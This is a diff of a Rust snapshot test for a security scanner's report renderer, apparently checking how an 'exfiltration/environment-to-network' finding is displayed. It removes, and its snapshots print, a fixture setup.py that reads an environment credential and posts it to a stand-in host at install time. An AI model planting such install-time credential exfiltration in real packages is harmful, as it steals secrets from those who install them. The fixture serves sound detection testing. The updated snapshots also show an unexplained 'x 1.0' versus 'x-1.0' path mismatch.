@@ -1,11 +1,12 @@
 //! What people see, piece by piece.
 
 use crate::common::{Files, assemble, draft, finding, position};
+use crate::sample;
 use insta::assert_snapshot;
 use laocoon_report::{
-    Confidence, Coverage, Draft, Finding, Fix, Grade, Location, Partly, RejectedRule,
-    RelatedLocation, RuleNotRun, RulesCoverage, Severity, Skipped, TextOptions, TraceStep, Unit,
-    UnitKind, write_text,
+    Confidence, Coverage, Draft, Finding, Fix, Location, Partly, RejectedRule, RelatedLocation,
+    RuleNotRun, RulesCoverage, Severity, Skipped, TextOptions, TraceStep, Unit, UnitKind,
+    write_text,
 };
 
 fn render_with(draft: Draft<'_>, files: &Files, options: &TextOptions) -> String {
@@ -268,51 +269,13 @@ fn controls_in_everything_else() {
     ");
 }
 
-/// A finding that says everything that findings can say.
-fn full(files: &mut Files) -> Finding {
-    let text = "import os, requests\n\nkey = os.environ['KEY']\ndata = {'k': key}\n\nrequests.post('http://x', data)\n";
-    files.add("dist/x-1.0.tar.gz", Some("x-1.0/setup.py"), text);
-    let place = |needle| files.place("dist/x-1.0.tar.gz", Some("x-1.0/setup.py"), needle);
-    let step = |needle, note: &str| TraceStep {
-        location: place(needle),
-        note: note.to_owned(),
-    };
-    let location = place("requests.post('http://x', data)");
-    Finding {
-        severity: Severity::Critical,
-        grade: Grade::Flow,
-        message: "A credential from the environment is sent over the network".to_owned(),
-        why: Some(
-            "It runs when the package is installed,\nbefore any of its code is read.".to_owned(),
-        ),
-        remediation: Some("Remove the call".to_owned()),
-        cwe: vec!["CWE-506: Embedded malicious code".to_owned()],
-        references: vec!["https://example.org/a".to_owned()],
-        related: vec![RelatedLocation {
-            location: place("requests"),
-            note: "imported here".to_owned(),
-        }],
-        trace: vec![
-            step("os.environ['KEY']", "read here"),
-            step("{'k': key}", "put into a dictionary"),
-            step("requests.post('http://x', data)", "sent here"),
-        ],
-        fix: Some(Fix {
-            replacement: String::new(),
-            start: location.start,
-            end: location.end,
-        }),
-        ..finding("exfiltration/environment-to-network", location)
-    }
-}
-
 #[test]
 fn everything_there_is_to_say_of_a_finding() {
-    let mut files = Files::default();
-    let finding = full(&mut files);
+    let files = sample::files();
+    let finding = sample::full_finding(&files);
     assert_snapshot!(render(draft(vec![finding]), &files), @r"
     error[exfiltration/environment-to-network]: A credential from the environment is sent over the network
-     --> dist/x-1.0.tar.gz!x-1.0/setup.py:6:1
+     --> dist/x 1.0.tar.gz!x-1.0/setup.py:6:1
       |
     6 | requests.post('http://x', data)
       | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
@@ -324,22 +287,22 @@ fn everything_there_is_to_say_of_a_finding() {
       = fix: remove it
       = see: https://example.org/a
     note: imported here
-     --> dist/x-1.0.tar.gz!x-1.0/setup.py:1:12
+     --> dist/x 1.0.tar.gz!x-1.0/setup.py:1:12
       |
     1 | import os, requests
       |            ^^^^^^^^
     note: step 1 of 3: read here
-     --> dist/x-1.0.tar.gz!x-1.0/setup.py:3:7
+     --> dist/x 1.0.tar.gz!x-1.0/setup.py:3:7
       |
     3 | key = os.environ['KEY']
       |       ^^^^^^^^^^^^^^^^^
     note: step 2 of 3: put into a dictionary
-     --> dist/x-1.0.tar.gz!x-1.0/setup.py:4:8
+     --> dist/x 1.0.tar.gz!x-1.0/setup.py:4:8
       |
     4 | data = {'k': key}
       |        ^^^^^^^^^^
     note: step 3 of 3: sent here
-     --> dist/x-1.0.tar.gz!x-1.0/setup.py:6:1
+     --> dist/x 1.0.tar.gz!x-1.0/setup.py:6:1
       |
     6 | requests.post('http://x', data)
       | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
@@ -353,8 +316,8 @@ fn everything_there_is_to_say_of_a_finding() {
 
 #[test]
 fn long_traces_are_shown_by_their_ends() {
-    let mut files = Files::default();
-    let mut finding = full(&mut files);
+    let files = sample::files();
+    let mut finding = sample::full_finding(&files);
     let step = finding.trace[0].clone();
     finding.trace = (1..=1_000)
         .map(|n| TraceStep {
